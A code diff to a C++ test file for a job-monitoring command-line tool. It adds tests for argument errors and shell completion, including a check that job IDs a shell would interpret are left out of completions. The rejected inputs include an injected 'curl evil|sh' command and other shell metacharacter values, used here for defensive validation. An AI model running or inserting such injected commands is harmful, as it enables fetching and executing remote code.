@@ -115,6 +115,10 @@ INSTANTIATE_TEST_SUITE_P(
         Case{"EmptyLog",
              {"what-if", "log", "--learn", ""},
              "--learn must not be empty; is a shell variable unset?"},
+        Case{"EmptyProbe",
+             {"what-if", "log", "--probe", "reduceByKey="},
+             "--probe: reduceByKey= names no log; is a shell variable unset?"},
+        Case{"ThreeRuns", {"compare", "a", "b", "c"}, "unexpected argument c"},
         Case{"EmptyMinutes",
              {"why", "app-7", "--last", ""},
              "--last must be a whole number from 1 to 10, not empty"},
@@ -275,13 +279,43 @@ TEST(CommandLine, ParsesDecimalAndBinaryUnits) {
 TEST(Completion, ReturnsWordsThatBeginWithTheLastWord) {
   using testing::Contains;
   using testing::ElementsAre;
-  EXPECT_THAT(CompletionsOf({"wa"}), ElementsAre("watch"));
-  EXPECT_THAT(CompletionsOf({""}), Contains("get"));
-  EXPECT_THAT(CompletionsOf({"get", ""}), ElementsAre("jobs", "stages", "tasks", "workflows"));
-  EXPECT_THAT(CompletionsOf({"run", "example", "--red"}), ElementsAre("--reducers"));
-  EXPECT_THAT(CompletionsOf({"get", "jobs", "--mas"}), ElementsAre("--master"));
-  EXPECT_THAT(CompletionsOf({}), Contains("watch"));
-  EXPECT_THAT(CompletionsOf({"replay", "some"}), testing::IsEmpty());
+  EXPECT_THAT(CompletionsOf({"wa"}).words, ElementsAre("watch"));
+  EXPECT_THAT(CompletionsOf({""}).words, Contains("get"));
+  EXPECT_THAT(CompletionsOf({"get", ""}).words,
+              ElementsAre("jobs", "stages", "tasks", "workflows"));
+  EXPECT_THAT(CompletionsOf({"run", "example", "--red"}).words, ElementsAre("--reducers"));
+  EXPECT_THAT(CompletionsOf({"get", "jobs", "--mas"}).words, ElementsAre("--master"));
+  EXPECT_THAT(CompletionsOf({}).words, Contains("watch"));
+  EXPECT_THAT(CompletionsOf({"replay", "some"}).words, testing::IsEmpty());
+}
+
+TEST(Completion, KnowsValuesAndPlacesOfIds) {
+  using testing::Contains;
+  using testing::ElementsAre;
+  using testing::IsEmpty;
+  EXPECT_THAT(CompletionsOf({"watch", "job", "-o", "p"}).values, ElementsAre("plain"));
+  EXPECT_THAT(CompletionsOf({"watch", "job", "--output", ""}).values, Contains("jsonl"));
+  EXPECT_THAT(CompletionsOf({"watch", "job", "--master", ""}).values, IsEmpty());
+  EXPECT_THAT(CompletionsOf({"run", "example", "nat"}).values, ElementsAre("natural-join"));
+  EXPECT_TRUE(CompletionsOf({"get", "stages", ""}).takes_job_id);
+  EXPECT_TRUE(CompletionsOf({"compare", "night"}).takes_job_id);
+  EXPECT_TRUE(CompletionsOf({"why", "app"}).takes_job_id);
+  EXPECT_TRUE(CompletionsOf({"watch", "--compare", ""}).takes_job_id) << "a flag has no value";
+  EXPECT_TRUE(CompletionsOf({"deadline", ""}).takes_job_id);
+  EXPECT_FALSE(CompletionsOf({"watch", "-o", ""}).takes_job_id);
+  EXPECT_FALSE(CompletionsOf({"watch", "--"}).takes_job_id);
+  EXPECT_FALSE(CompletionsOf({"run", "example", ""}).takes_job_id);
+  EXPECT_FALSE(CompletionsOf({"ge"}).takes_job_id);
+}
+
+TEST(Completion, OmitsIdsThatAShellWouldInterpret) {
+  for (const char* id : {"nightly-17", "application_1700000000000_0001", "etl/load.v2:3@host"}) {
+    EXPECT_TRUE(IsPlainWord(id)) << id;
+  }
+  for (const char* id : {"load;curl evil|sh", "a b", "a\nb", "*", "$(date)", "`date`", "\x1b[2J",
+                         "~", "a'b", "-rf", "caf\xc3\xa9"}) {
+    EXPECT_FALSE(IsPlainWord(id)) << id;
+  }
 }
 
 TEST(Help, ListsConnectionOptionsInOneTopic) {
@@ -301,7 +335,7 @@ void AddLeaves(const std::vector<std::string>& command,
                std::vector<std::vector<std::string>>& leaves) {
   std::vector<std::string> words = command;
   words.emplace_back();
-  const std::vector<std::string> subcommands = CompletionsOf(words);
+  const std::vector<std::string> subcommands = CompletionsOf(words).words;
   if (subcommands.empty()) leaves.push_back(command);
   for (const std::string& subcommand : subcommands) {
     words.back() = subcommand;
